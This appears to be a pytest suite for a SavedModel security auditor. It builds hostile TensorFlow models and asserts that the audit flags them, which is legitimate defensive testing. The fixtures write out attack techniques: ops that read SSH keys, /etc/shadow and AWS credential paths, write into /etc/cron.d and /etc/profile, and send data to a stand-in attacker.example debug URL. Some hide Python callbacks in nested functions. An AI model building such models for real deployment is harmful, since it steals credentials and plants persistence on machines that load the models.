"""SavedModel attacks built at test time (no TensorFlow): each must fail the audit (exit 1) with a high or
critical finding naming the op and where it sits; benign exports stay silent at high and above.

Techniques follow TensorFlow's SECURITY.md ("models are programs") and public SavedModel-scanner advisories:
file reads/writes/listings, text-file table initialisers, databases and summary writers, tfdbg debug URLs,
memory-mapped constants, Python callbacks hidden in nested function libraries, checkpoint ops outside the
saver, protobuf last-field-wins op overrides, a second meta-graph, and the text-format saved_model.pbtxt.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from tests.conftest import FIXTURES, invoke, invoke_json, real_sample

sys.path.insert(0, str(FIXTURES))
import savedmodel_proto as sm  # noqa: E402

HIGH = ("high", "critical")


def _audit(runner, folder: Path) -> tuple[int, list[dict]]:
    code, report = invoke_json(runner, "audit", folder, "--no-stats")
    return code, [f for f in report["findings"] if f["rule_id"].startswith(("WA44", "WA16", "WA17", "WA132"))]


def _const(name: str, text: str) -> list:
    return sm.node(name, "Const", value=[(8, "tensor", [(1, "dtype", 7), (8, "string_val", text)])])


def _in_serving(*nodes: list) -> list:
    return sm.tf2_model(serve_nodes=list(nodes))


def _library_call(name: str, *nodes: list) -> list:
    """A serving function that reaches ``name`` through a While body (a function-valued attribute)."""
    loop = sm.node("while", "StatelessWhile", cond=sm.attr_func("__inference_cond_3"), body=sm.attr_func(name))
    return sm.tf2_model(serve_nodes=[loop], extra_functions=[
        sm.function("__inference_cond_3", sm.node("Less", "Less")), sm.function(name, *nodes)])


ATTACKS = {
    # name: (model, rule, severity, op, where-substring)
    "write-file": (_in_serving(_const("path", "/etc/cron.d/x"), sm.node("w", "WriteFile", "path", "Relu")),
                   "WA441", "high", "WriteFile", sm.SERVE_FN),
    "read-file": (_in_serving(_const("path", "/home/user/.ssh/id_rsa"), sm.node("r", "ReadFile", "path")),
                  "WA441", "high", "ReadFile", "node 'r'"),
    "list-directory": (_in_serving(_const("glob", "/home/*/.aws/*"), sm.node("ls", "MatchingFiles", "glob")),
                       "WA441", "high", "MatchingFiles", sm.SERVE_FN),
    "table-from-text-file": (_in_serving(
        _const("vocab", "/etc/shadow"), sm.node("table", "HashTableV2"),
        sm.node("init", "InitializeTableFromTextFileV2", "table", "vocab")),
        "WA441", "high", "InitializeTableFromTextFileV2", "node 'init'"),
    "sql-database": (_in_serving(sm.node("db", "SqlDataset")), "WA444", "high", "SqlDataset", sm.SERVE_FN),
    "summary-db-writer": (_in_serving(sm.node("w", "SummaryWriter"), sm.node("c", "CreateSummaryDbWriter", "w")),
                          "WA444", "high", "CreateSummaryDbWriter", sm.SERVE_FN),
    "summary-file-writer": (_in_serving(_const("logdir", "/tmp/exfil"),
                                        sm.node("fw", "CreateSummaryFileWriter", "w", "logdir"),
                                        sm.node("ws", "WriteScalarSummary", "w")),
                            "WA444", "high", "CreateSummaryFileWriter", "node 'fw'"),
    "debug-grpc-url": (_in_serving(sm.node("dbg", "DebugIdentityV2", "Relu",
                                           debug_urls=sm.attr_s("grpc://attacker.example:6064"))),
                       "WA445", "high", "DebugIdentityV2", "node 'dbg'"),
    "rpc-client": (_in_serving(sm.node("rpc", "RpcClient")), "WA445", "high", "RpcClient", sm.SERVE_FN),
    "immutable-const": (_in_serving(sm.node("mm", "ImmutableConst", memory_region_name=sm.attr_s("/etc/passwd"))),
                        "WA441", "high", "ImmutableConst", "node 'mm'"),
    "pyfunc-nested": (_library_call("__inference_body_5", sm.node("py", "EagerPyFunc", token=sm.attr_s("pyfunc_0"))),
                      "WA440", "critical", "EagerPyFunc", "function __inference_body_5"),
    "savev2-in-serving": (_in_serving(_const("prefix", "/var/www/x"), sm.node("s", "SaveV2", "prefix")),
                          "WA442", "high", "SaveV2", sm.SERVE_FN),
    "saver-called-from-serving": (_in_serving(sm.node("c", "StatefulPartitionedCall", f=sm.attr_func(sm.SAVE_FN))),
                                  "WA442", "high", "SaveV2", sm.SAVE_FN),
    "print-to-file": (_in_serving(sm.node("p", "PrintV2", "Relu", output_stream=sm.attr_s("file:///etc/profile"))),
                      "WA446", "high", "PrintV2", "node 'p'"),
    "proto-descriptor-file": (_in_serving(sm.node("d", "DecodeProtoV2", descriptor_source=sm.attr_s("/etc/passwd"))),
                              "WA446", "high", "DecodeProtoV2", "attr descriptor_source"),
    "op-overridden-by-last-field": (_in_serving(sm.node("m", "MatMul") + [(2, "op", "WriteFile")]),
                                    "WA441", "high", "WriteFile", "node 'm'"),
}


def _signature_names_saver() -> list:
    signatures = {"serving_default": sm.signature({"out": "StatefulPartitionedCall_1:0"})}
    return sm.tf2_model(signatures=signatures)


def _second_meta_graph() -> list:
    model = sm.tf2_model()
    evil = sm.meta_graph(sm.graph([sm.node("w", "WriteFile")]), tags=("train",))
    return model + [(2, "meta_graphs", evil)]


ATTACKS["signature-names-saver-node"] = (_signature_names_saver(), "WA442", "high", "SaveV2", sm.SAVE_FN)
ATTACKS["saver-in-object-graph"] = (sm.tf2_model(object_functions=(sm.SERVE_FN, sm.SAVE_FN)), "WA442", "high",
                                    "SaveV2", "object graph")
ATTACKS["saver-called-by-unnamed-node"] = (sm.tf2_model(saver=sm.saver_def("other", "StatefulPartitionedCall_2")),
                                           "WA442", "high", "SaveV2", "SaverDef does not name")
ATTACKS["second-meta-graph"] = (_second_meta_graph(), "WA441", "high", "WriteFile", "meta-graph 1")


def _pyfunc_in_func_attr_model() -> list:
    inner = sm.function("__inference_inner_8", sm.node("Identity", "Identity"))
    deep = sm.function("__inference_deep_9", sm.node("py", "PyFunc"))
    caller = sm.node("call", "PartitionedCall",
                     f=sm.attr_func("__inference_inner_8", then=sm.attr_func("__inference_deep_9")))
    return sm.tf2_model(serve_nodes=[caller], extra_functions=[inner, deep])


ATTACKS["pyfunc-in-func-attr"] = (_pyfunc_in_func_attr_model(), "WA440", "critical", "PyFunc",
                                  "function __inference_deep_9")


@pytest.mark.parametrize("text", [False, True], ids=["pb", "pbtxt"])
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_fails_the_audit(runner, tmp_path: Path, name: str, text: bool) -> None:
    model, rule, severity, op, where = ATTACKS[name]
    folder = sm.write_saved_model(tmp_path / name, model, text=text)
    code, findings = _audit(runner, folder)
    assert code == 1, findings
    hits = [f for f in findings if f["rule_id"] == rule and op in f["message"]]
    assert hits, findings
    assert hits[0]["severity"] == severity
    assert where in (hits[0]["where"] or "") + hits[0]["message"]


@pytest.mark.parametrize("text", [False, True], ids=["pb", "pbtxt"])
def test_standard_export_is_silent(runner, tmp_path: Path, text: bool) -> None:
    folder = sm.write_saved_model(tmp_path / "benign", sm.tf2_model(), text=text)
    code, findings = _audit(runner, folder)
    assert code == 0 and findings == []


TF1_SAVER = sm.saver_def("save/control_dependency", "save/restore_all")


def _tf1_model(extra: list, signature_output: str = "y:0", saver: list | None = TF1_SAVER) -> list:
    nodes = [sm.node("x", "Placeholder"), sm.node("y", "Relu", "x"), sm.node("save/Const", "PlaceholderWithDefault"),
             sm.node("save/SaveV2", "SaveV2", "save/Const"), sm.node("save/RestoreV2", "RestoreV2", "save/Const"),
             sm.node("save/control_dependency", "Identity", "save/Const"), sm.node("save/restore_all", "NoOp"), *extra]
    signatures = {"serving_default": sm.signature({"y": signature_output}, {"x": "x:0"})}
    return sm.saved_model(sm.meta_graph(sm.graph(nodes), signatures=signatures, saver=saver))


def test_tf1_saver_scope_is_trusted(runner, tmp_path: Path) -> None:
    folder = sm.write_saved_model(tmp_path / "tf1", _tf1_model([]))
    assert _audit(runner, folder) == (0, [])


@pytest.mark.parametrize("model, why", [
    (_tf1_model([sm.node("export/SaveV2", "SaveV2")]), "outside the saver scope save/"),
    (_tf1_model([sm.node("save/evil", "SaveV2")], signature_output="save/control_dependency:0"),
     "which a signature names"),
    (_tf1_model([], saver=None), "SaverDef names no saver scope"),
], ids=["outside-scope", "signature-into-scope", "no-saver-def"])
def test_tf1_checkpoint_ops_outside_the_saver_fail(runner, tmp_path: Path, model: list, why: str) -> None:
    folder = sm.write_saved_model(tmp_path / "tf1", model)
    code, findings = _audit(runner, folder)
    assert code == 1
    assert findings and all(f["rule_id"] == "WA442" and f["severity"] == "high" for f in findings)
    assert any(why in f["message"] and "SaveV2" in f["message"] for f in findings)


@pytest.mark.parametrize("op, rule", [("FIFOQueueV2", "WA447"), ("MyCompany>FancyOp", "WA443")])
def test_unlisted_and_custom_ops_are_medium(runner, tmp_path: Path, op: str, rule: str) -> None:
    folder = sm.write_saved_model(tmp_path / "m", _in_serving(sm.node("q", op)))
    code, findings = _audit(runner, folder)
    assert code == 0
    assert [(f["rule_id"], f["severity"]) for f in findings] == [(rule, "medium")]
    assert op in findings[0]["message"] and sm.SERVE_FN in findings[0]["where"]


def test_reviewed_unlisted_op_is_accepted_by_the_users_policy_as_explained(runner, tmp_path: Path) -> None:
    """`rules explain WA447` says how a user accepts a reviewed op: an ignore entry on the SavedModel folder."""
    release = tmp_path / "release"
    sm.write_saved_model(release / "my_model", _in_serving(sm.node("q", "FIFOQueueV2")))
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nignore:\n  - rule: WA447\n    path: my_model\n    reason: reviewed queue\n")
    code, report = invoke_json(runner, "audit", release, "--no-stats", "--policy", policy)
    assert code == 0 and not [f for f in report["findings"] if f["rule_id"].startswith("WA44")]
    assert [f["rule_id"] for f in report["suppressed"]] == ["WA447"]
    explained = invoke(runner, "rules", "explain", "WA447").stdout
    assert "tf_op_allowlist.yaml" in explained and "rule: WA447" in explained


@pytest.mark.parametrize("model, op, function", [
    (sm.tf2_model(serve_nodes=[sm.node("a", "PartitionedCall", f=sm.attr_func("__inference_a_11"))], extra_functions=[
        sm.function("__inference_a_11", sm.node("b", "StatefulPartitionedCall", f=sm.attr_func("__inference_b_12"))),
        sm.function("__inference_b_12", _const("p", "/etc/passwd"), sm.node("rf", "ReadFile", "p"))]),
     "ReadFile", "__inference_b_12"),
    (sm.tf2_model(serve_nodes=[sm.node("case", "Case", branches=sm.attr_func_list("__inference_ok_31",
                                                                                  "__inference_bad_30"))],
                  extra_functions=[sm.function("__inference_ok_31", sm.node("i", "Identity")),
                                   sm.function("__inference_bad_30", sm.node("wf", "WriteFile", "a", "b"))]),
     "WriteFile", "__inference_bad_30"),
], ids=["readfile-two-calls-deep", "writefile-in-case-branch-list"])
def test_file_ops_in_nested_functions_fail(runner, tmp_path: Path, model: list, op: str, function: str) -> None:
    code, findings = _audit(runner, sm.write_saved_model(tmp_path / "n", model))
    assert code == 1
    assert any(f["rule_id"] == "WA441" and f["severity"] == "high" and op in f["message"] and function in f["where"]
               for f in findings), findings


def test_safe_print_stream_is_silent(runner, tmp_path: Path) -> None:
    folder = sm.write_saved_model(tmp_path / "p", _in_serving(sm.node("p", "PrintV2", output_stream=sm.attr_s("stderr"))))
    assert _audit(runner, folder) == (0, [])


@pytest.mark.parametrize("name", ["sm_module", "sm_keras"])
def test_benign_fixtures_stay_silent(runner, name: str) -> None:
    code, findings = _audit(runner, FIXTURES / "keras_tf" / name)
    assert code == 0 and [f for f in findings if f["severity"] in HIGH] == []


def test_readfile_fixture_made_by_tensorflow_fails(runner) -> None:
    code, findings = _audit(runner, FIXTURES / "keras_tf" / "sm_readfile")
    assert code == 1
    assert [(f["rule_id"], f["severity"]) for f in findings] == [("WA441", "high")]
    assert "ReadFile" in findings[0]["message"] and "__inference_read_" in findings[0]["where"]


@pytest.mark.real
def test_basic_pitch_savedmodel_is_silent(runner) -> None:
    folder = real_sample("basic_pitch/basic_pitch/saved_models/icassp_2022/nmp")
    code, findings = _audit(runner, folder)
    assert [f for f in findings if f["severity"] in HIGH] == []
    assert code == 0


def test_walk_limit_is_a_limit_finding_and_unverified(runner, tmp_path: Path) -> None:
    folder = tmp_path / "metas"
    folder.mkdir()
    (folder / "saved_model.pb").write_bytes(b"\x12\x00" * 100_000)      # 100,000 empty meta-graphs
    code, report = invoke_json(runner, "audit", folder, "--no-stats")
    assert code == 1 and report["summary"]["verified"] is False
    assert [(f["rule_id"], f["severity"]) for f in report["findings"] if f["rule_id"] == "WA132"] == [("WA132", "high")]


def test_dangerous_op_before_the_limit_still_fails(runner, tmp_path: Path) -> None:
    model = _in_serving(sm.node("w", "WriteFile")) + [(2, "meta_graphs", [])] * 100
    folder = sm.write_saved_model(tmp_path / "m", model)
    code, findings = _audit(runner, folder)
    assert code == 1 and {"WA441", "WA132"} <= {f["rule_id"] for f in findings}
